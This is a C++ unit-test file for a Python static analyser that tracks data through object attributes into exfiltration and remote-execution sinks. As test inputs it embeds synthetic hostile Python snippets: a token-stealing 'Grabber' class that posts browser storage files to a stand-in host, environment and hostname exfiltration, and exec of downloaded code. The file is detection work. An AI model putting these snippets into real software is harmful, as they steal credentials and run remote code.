// Data flows through objects: what one method stores in self.<attr> (or a
// class attribute) reaches a sink in another method; methods called through
// an instance created at load count as code that runs at load. One-line
// tests over synthetic Python sources through the whole Python pass.
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "analysis/python_analysis.h"
#include "analysis/rules.h"
#include "support/python_rules.h"

namespace pyward {
namespace {

using testing::Analyze;
using testing::Find;

std::string Names(const std::vector<Finding>& fs) {
  std::string s;
  for (const Finding& f : fs)
    s += f.rule + "(" + std::string(SeverityName(f.severity)) +
         "): " + f.message + "\n";
  return s;
}

// A stealer class: the methods that gather and the one that sends.
const char kGrabberHead[] =
    "import os, requests\n"
    "class Grabber:\n"
    "    def __init__(self):\n"
    "        self.tokens = []\n"
    "        self.webhook = 'https://collector.example/hook'\n"
    "    def send(self):\n"
    "        requests.post(self.webhook, json={'t': self.tokens, 'u': "
    "self.user})\n"
    "    def grab(self):\n"
    "        for p in ['a', 'b']:\n"
    "            self.tokens.append(open(p + '/Local "
    "Storage/leveldb/x.ldb').read())\n"
    "        self.user = os.getlogin()\n";

TEST(ObjectFlows, AppendIntoSelfListReachesSinkInAnotherMethod) {
  auto fs = Analyze(std::string(kGrabberHead) +
                    "g = Grabber()\ng.grab()\ng.send()\n");
  const Finding* f = Find(fs, "exfiltration");
  ASSERT_NE(f, nullptr) << Names(fs);
  EXPECT_EQ(f->severity, Severity::kCritical) << f->message;
  EXPECT_EQ(f->phase, Phase::kImport) << f->message;
  EXPECT_NE(f->message.find("self.tokens"), std::string::npos) << f->message;
  EXPECT_NE(f->message.find("requests.post"), std::string::npos) << f->message;
}

TEST(ObjectFlows, HostFactsThroughSelfAttribute) {
  auto fs = Analyze(
      "import socket, urllib.request\n"
      "class Beacon:\n"
      "    def collect(self):\n"
      "        self.host = socket.gethostname()\n"
      "    def report(self):\n"
      "        urllib.request.urlopen('https://x.example/?h=' + self.host)\n"
      "    def run(self):\n"
      "        self.collect()\n"
      "        self.report()\n"
      "Beacon().run()\n");
  const Finding* f = Find(fs, "exfiltration");
  ASSERT_NE(f, nullptr) << Names(fs);
  EXPECT_NE(f->message.find("socket.gethostname"), std::string::npos)
      << f->message;
  EXPECT_NE(f->message.find("self.host"), std::string::npos) << f->message;
  // run() is called at import, and runs report() through self.
  EXPECT_EQ(f->phase, Phase::kImport) << f->message;
  EXPECT_EQ(f->severity, Severity::kCritical) << f->message;
}

TEST(ObjectFlows, SecretThroughClassAttribute) {
  auto fs = Analyze(
      "import os, requests\n"
      "class Cfg:\n"
      "    env = dict(os.environ)\n"
      "def ship():\n"
      "    requests.post('https://x.example/', data=str(Cfg.env))\n");
  const Finding* f = Find(fs, "exfiltration");
  ASSERT_NE(f, nullptr) << Names(fs);
  EXPECT_NE(f->message.find("Cfg.env"), std::string::npos) << f->message;
  // Nobody calls ship(): a runtime finding, weighed down.
  EXPECT_EQ(f->phase, Phase::kRuntime);
  EXPECT_LT(f->severity, Severity::kHigh);
}

TEST(ObjectFlows, ModuleLevelObjectAttributeShowsInPath) {
  auto fs = Analyze(
      "import getpass, requests, types\n"
      "box = types.SimpleNamespace()\n"
      "box.user = getpass.getuser()\n"
      "def send():\n"
      "    requests.post('https://x.example/', data=box.user)\n"
      "send()\n");
  const Finding* f = Find(fs, "exfiltration");
  ASSERT_NE(f, nullptr) << Names(fs);
  EXPECT_NE(f->message.find("box.user"), std::string::npos) << f->message;
}

TEST(ObjectFlows, MethodsNobodyCallsAtLoadWeighLess) {
  auto fs = Analyze(kGrabberHead);
  const Finding* f = Find(fs, "exfiltration");
  ASSERT_NE(f, nullptr) << Names(fs);
  EXPECT_EQ(f->phase, Phase::kRuntime);
  EXPECT_LT(f->severity, Severity::kCritical);
  // Under `if __name__ == '__main__':` an imported module does not run it.
  auto guarded = Analyze(std::string(kGrabberHead) +
                         "if __name__ == '__main__':\n    Grabber().send()\n");
  const Finding* g = Find(guarded, "exfiltration");
  ASSERT_NE(g, nullptr) << Names(guarded);
  EXPECT_EQ(g->phase, Phase::kRuntime);
}

TEST(ObjectFlows, AttributeThatNeverReachesASink) {
  auto fs = Analyze(
      "import os, requests\n"
      "class Tool:\n"
      "    def __init__(self):\n"
      "        self.home = os.path.expanduser('~/.aws/credentials')\n"
      "        self.url = 'https://pypi.example/simple'\n"
      "    def load(self):\n"
      "        return open(self.home).read()\n"
      "    def ping(self):\n"
      "        requests.get(self.url)\n"
      "Tool().ping()\n");
  EXPECT_EQ(Find(fs, "exfiltration"), nullptr) << Names(fs);
}

TEST(ObjectFlows, BenignClientPostingItsOwnFields) {
  auto fs = Analyze(
      "import requests, json\n"
      "class Client:\n"
      "    base = 'https://api.example/v1'\n"
      "    def __init__(self, name):\n"
      "        self.name = name\n"
      "        self.items = []\n"
      "    def add(self, x):\n"
      "        self.items.append({'id': x, 'tag': self.name})\n"
      "    def flush(self):\n"
      "        requests.post(self.base + '/items', "
      "data=json.dumps(self.items))\n"
      "c = Client('demo')\nc.add(1)\nc.flush()\n");
  EXPECT_EQ(Find(fs, "exfiltration"), nullptr) << Names(fs);
}

TEST(ObjectFlows, AttributesOfOneClassDoNotLeakIntoAnother) {
  auto fs = Analyze(
      "import os, requests\n"
      "class A:\n"
      "    def f(self):\n"
      "        self.data = dict(os.environ)\n"
      "class B:\n"
      "    def g(self):\n"
      "        requests.post('https://x.example/', data=self.data)\n");
  EXPECT_EQ(Find(fs, "exfiltration"), nullptr) << Names(fs);
}

TEST(ObjectFlows, NetworkDataFollowsSelfOnlyWithinOneMethod) {
  auto fs = Analyze(
      "import requests\n"
      "class Updater:\n"
      "    def run(self):\n"
      "        self.code = requests.get('https://x.example/c.py').text\n"
      "        exec(self.code)\n"
      "Updater().run()\n");
  const Finding* f = Find(fs, "exec-remote");
  ASSERT_NE(f, nullptr) << Names(fs);
  EXPECT_NE(f->message.find("self.code"), std::string::npos) << f->message;
  // A client keeping a downloaded document and naming a command after it.
  auto client = Analyze(
      "import requests, subprocess\n"
      "class Pkg:\n"
      "    def fetch(self):\n"
      "        self.meta = requests.get('https://registry.example/p').json()\n"
      "        self.name = self.meta['name']\n"
      "    def build(self):\n"
      "        subprocess.getstatusoutput(self.name)\n"
      "p = Pkg()\np.fetch()\np.build()\n");
  EXPECT_EQ(Find(client, "download-exec"), nullptr) << Names(client);
}

TEST(ObjectFlows, InstancesOutsideTheClassAndObjectsSentWhole) {
  // An instance's attribute read outside the class.
  auto fs = Analyze(
      "import getpass, requests\n"
      "class Info:\n"
      "    def fill(self):\n"
      "        self.user = getpass.getuser()\n"
      "g = Info()\ng.fill()\n"
      "requests.post('https://x.example/', data=g.user)\n");
  const Finding* f = Find(fs, "exfiltration");
  ASSERT_NE(f, nullptr) << Names(fs);
  EXPECT_NE(f->message.find("self.user"), std::string::npos) << f->message;
  EXPECT_EQ(f->phase, Phase::kImport);
  // The object as a whole: vars(self), g.__dict__.
  for (const char* send :
       {"requests.post('https://x.example/', json=vars(self))",
        "requests.post('https://x.example/', json=self.__dict__)"}) {
    auto whole = Analyze(std::string("import os, requests\n"
                                     "class S:\n"
                                     "    def a(self):\n"
                                     "        self.env = dict(os.environ)\n"
                                     "    def b(self):\n"
                                     "        ") +
                         send + "\n");
    EXPECT_NE(Find(whole, "exfiltration"), nullptr) << send << "\n"
                                                    << Names(whole);
  }
  // Another object of another class is not that object.
  auto other = Analyze(
      "import getpass, requests\n"
      "class Info:\n"
      "    def fill(self):\n"
      "        self.user = getpass.getuser()\n"
      "class Page:\n"
      "    user = 'guest'\n"
      "p = Page()\n"
      "requests.post('https://x.example/', data=p.user)\n");
  EXPECT_EQ(Find(other, "exfiltration"), nullptr) << Names(other);
}

TEST(ObjectFlows, SubclassSharesItsBaseClassAttributes) {
  auto fs = Analyze(
      "import socket, requests\n"
      "class Base:\n"
      "    def send(self):\n"
      "        requests.post('https://x.example/', data=self.host)\n"
      "class Probe(Base):\n"
      "    def __init__(self):\n"
      "        self.host = socket.gethostname()\n"
      "        self.send()\n"
      "Probe()\n");
  const Finding* f = Find(fs, "exfiltration");
  ASSERT_NE(f, nullptr) << Names(fs);
  EXPECT_NE(f->message.find("self.host"), std::string::npos) << f->message;
  EXPECT_EQ(f->phase, Phase::kImport) << f->message;
}

}  // namespace
}  // namespace pyward
